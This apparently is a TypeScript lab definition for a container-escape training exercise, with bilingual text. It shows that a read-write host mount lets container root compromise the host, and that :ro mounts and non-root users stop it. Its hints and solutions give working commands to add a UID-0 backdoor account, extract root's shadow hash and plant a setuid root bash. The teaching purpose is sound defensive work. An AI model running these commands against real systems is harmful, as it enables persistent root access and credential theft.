// Escape lab: a host directory bind-mounted read-write (the seeds' `-v /:/host`) lets root in
// the container edit the host's files as the host's root. Containment: the session's own
// host directory stands in for the host's `/` (host/etc/passwd, host/etc/shadow, host/tmp
// planted by the lab, root-owned); the real `/` is never mounted. The same attack fails in
// a container with the mount `:ro` (writes) and in one running as a non-root `--user`
// (writes, and reading a root-only file).
import { FLAG_LINE } from '../shared/flag-check.ts';
import type { LabDefinition } from '../../server/lab-kit.ts';
import { t } from '../shared/localized.ts';
import {
  PLANTED_PASSWD,
  secondRootCheck,
  setuidShellCheck,
  shadowCheck,
} from './host-mount-checks.ts';

export { extraRootAccounts, isSetuidRoot, PLANTED_PASSWD, rootHash } from './host-mount-checks.ts';

const HOST = { source: 'host', target: '/host' };
const SMALL = { memoryMb: 128, pidsLimit: 128, cpus: 0.5 } as const;
export const NON_ROOT_USER = '1000:1000';

export const escapeHostMountLab: LabDefinition = {
  id: 'escape-host-mount',
  title: t("Escape: the host's files, mounted", '逃逸：挂载进来的宿主机文件'),
  topic: 'escapes',
  summary: t(
    'A host directory mounted read-write into a container is the host: as root inside, add a second root account, read the password hashes and leave a setuid root shell. Then watch :ro and a non-root user stop you.',
    '以读写方式挂载进容器的宿主机目录就是宿主机本身：以容器内 root 的身份，添加第二个 root 账户、读取密码哈希，并留下一个 setuid root shell。然后看 :ro 和非 root 用户如何挡住你。',
  ),
  minutes: 15,
  learned: [
    t(
      'A host directory mounted read-write is the host: root inside can add accounts and plant setuid shells.',
      '以读写方式挂载的宿主机目录就是宿主机：容器内的 root 可以添加账户、植入 setuid shell。',
    ),
    t(
      'Mount host paths :ro, narrowly, and run as a non-root user.',
      '以 :ro 挂载宿主机路径，范围尽量窄，并以非 root 用户运行。',
    ),
  ],
  lesson: 'escape-host-mount.md',
  // Side by side, with the inspector, shows what the differing flags change.
  sideBySide: ['host-root', 'read-only'],
  escape: true,
  // Root in the container edits only what is bound in: this session's own directory.
  workshop: 'own-files',
  hostFiles: [
    { path: 'host', mode: 0o755 },
    { path: 'host/etc', mode: 0o755 },
    { path: 'host/etc/passwd', content: PLANTED_PASSWD, mode: 0o644 },
    {
      path: 'host/etc/shadow',
      content: 'root:{{token}}:19700:0:99999:7:::\nalice:!:19700:0:99999:7:::\n',
      mode: 0o600,
    },
    { path: 'host/tmp', mode: 0o1777 },
  ],
  containers: [
    {
      name: 'host-root',
      title: t('host-root (-v host:/host)', 'host-root（-v host:/host）'),
      hostname: 'host-root',
      sessionDirMounts: [HOST],
      ...SMALL,
    },
    {
      name: 'read-only',
      title: t('read-only (:ro)', 'read-only（:ro）'),
      hostname: 'read-only',
      sessionDirMounts: [{ ...HOST, readOnly: true }],
      ...SMALL,
    },
    {
      name: 'non-root',
      title: t(`non-root (--user ${NON_ROOT_USER})`, `non-root（--user ${NON_ROOT_USER}）`),
      hostname: 'non-root',
      user: NON_ROOT_USER,
      sessionDirMounts: [HOST],
      ...SMALL,
    },
  ],
  exercises: [
    {
      id: 'second-root',
      title: t('Add a root account to the host', '给宿主机添加一个 root 账户'),
      goal: t(
        "Give the host a second root account: a user other than root with user id 0 in the host's /etc/passwd (/host/etc/passwd in your containers).",
        '给宿主机添加第二个 root 账户：在宿主机的 /etc/passwd（在你的容器中是 /host/etc/passwd）里，加入一个用户 id 为 0、但不是 root 的用户。',
      ),
      hints: [
        t(
          'What makes an account root is not its name but the third field of its /etc/passwd line, the user id. Who may write the host file?',
          '让一个账户成为 root 的不是它的名字，而是它在 /etc/passwd 中那一行的第三个字段，即用户 id。谁能写宿主机上的这个文件？',
        ),
        t(
          'Only the host-root terminal can write it: :ro refuses every write, and the non-root user is not the owner of a 0644 root file.',
          '只有 host-root 终端能写它：:ro 拒绝一切写入，而非 root 用户不是那个属于 root 的 0644 文件的所有者。',
        ),
        t(
          "In the host-root terminal: echo 'toor:x:0:0:second root:/root:/bin/bash' >> /host/etc/passwd",
          "在 host-root 终端中：echo 'toor:x:0:0:second root:/root:/bin/bash' >> /host/etc/passwd",
        ),
      ],
      check: secondRootCheck,
      cheat: [
        // Its own /etc/passwd is the container's, not the host's.
        { terminal: 'host-root', input: "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd" },
        // The same attack against the two hardened containers.
        { terminal: 'read-only', input: "echo 'toor:x:0:0::/root:/bin/bash' >> /host/etc/passwd" },
        { terminal: 'non-root', input: "echo 'toor:x:0:0::/root:/bin/bash' >> /host/etc/passwd" },
      ],
      solution: [
        {
          terminal: 'host-root',
          input:
            "grep -q '^toor:' /host/etc/passwd || echo 'toor:x:0:0:second root:/root:/bin/bash' >> /host/etc/passwd; tail -n 2 /host/etc/passwd",
        },
      ],
    },
    {
      id: 'read-shadow',
      title: t("Read the host's password hashes", '读取宿主机的密码哈希'),
      goal: t(
        "Read root's password hash from the host's /etc/shadow (mode 0600, root only) and submit it.",
        '从宿主机的 /etc/shadow（权限 0600，仅 root 可读）中读取 root 的密码哈希，并提交它。',
      ),
      answer: {
        label: t("root's hash", 'root 的哈希'),
        placeholder: t('the second field of root’s line', 'root 那一行的第二个字段'),
      },
      hints: [
        t(
          '/etc/shadow is readable by root only. Which of your terminals is root, and does :ro stop reading?',
          '/etc/shadow 只有 root 可读。你的哪些终端是 root？:ro 会阻止读取吗？',
        ),
        t(
          'The non-root user gets "Permission denied". Root in host-root or read-only can read it: a read-only mount stops writes, not reads.',
          '非 root 用户会得到 "Permission denied"。host-root 或 read-only 中的 root 都能读它：只读挂载阻止的是写入，而不是读取。',
        ),
        t(
          'In the host-root (or read-only) terminal: cut -d: -f2 /host/etc/shadow | head -1',
          '在 host-root（或 read-only）终端中：cut -d: -f2 /host/etc/shadow | head -1',
        ),
      ],
      check: shadowCheck,
      // The non-root user cannot read it; the container's own shadow file is not the host's.
      cheat: [
        {
          terminal: 'non-root',
          input: 'cut -d: -f2 /host/etc/shadow | head -1',
          capture: FLAG_LINE,
        },
        {
          terminal: 'host-root',
          input: 'cut -d: -f2 /etc/shadow | head -1',
          capture: FLAG_LINE,
        },
      ],
      solution: [
        {
          terminal: 'host-root',
          input: 'cut -d: -f2 /host/etc/shadow | head -1',
          capture: FLAG_LINE,
        },
      ],
    },
    {
      id: 'setuid-shell',
      title: t('Leave a setuid root shell on the host', '在宿主机上留下一个 setuid root shell'),
      goal: t(
        "Leave a copy of a shell in the host's /tmp (/host/tmp) that any host user could run as root: owned by root, with the setuid bit.",
        '在宿主机的 /tmp（/host/tmp）中留下一个 shell 副本，让宿主机上的任何用户都能以 root 身份运行它：属于 root，并带有 setuid 位。',
      ),
      hints: [
        t(
          'A setuid program runs as its owner. What does the host see as the owner of a file created by root in a container?',
          'setuid 程序以其所有者的身份运行。容器里的 root 创建的文件，宿主机认为它的所有者是谁？',
        ),
        t(
          'Copy /bin/bash into /host/tmp and set the setuid bit (chmod u+s or 4755), from a terminal that is root and can write there.',
          '在一个身为 root 且能写那里的终端中，把 /bin/bash 复制到 /host/tmp，并设置 setuid 位（chmod u+s 或 4755）。',
        ),
        t(
          'In the host-root terminal: cp /bin/bash /host/tmp/rootbash && chmod 4755 /host/tmp/rootbash && ls -l /host/tmp',
          '在 host-root 终端中：cp /bin/bash /host/tmp/rootbash && chmod 4755 /host/tmp/rootbash && ls -l /host/tmp',
        ),
      ],
      check: setuidShellCheck,
      cheat: [
        // A setuid root file that is not a program.
        {
          terminal: 'host-root',
          input: 'touch /host/tmp/not-a-shell; chmod 4755 /host/tmp/not-a-shell',
        },
        // The attack from the hardened containers: EROFS, and a setuid file owned by 1000.
        {
          terminal: 'read-only',
          input: 'cp /bin/bash /host/tmp/rootbash && chmod 4755 /host/tmp/rootbash',
        },
        {
          terminal: 'non-root',
          input:
            'cp /bin/bash /host/tmp/userbash && chmod 4755 /host/tmp/userbash; ls -ln /host/tmp',
        },
      ],
      solution: [
        {
          terminal: 'host-root',
          input:
            'cp /bin/bash /host/tmp/rootbash && chmod 4755 /host/tmp/rootbash && ls -ln /host/tmp',
        },
      ],
    },
  ],
};
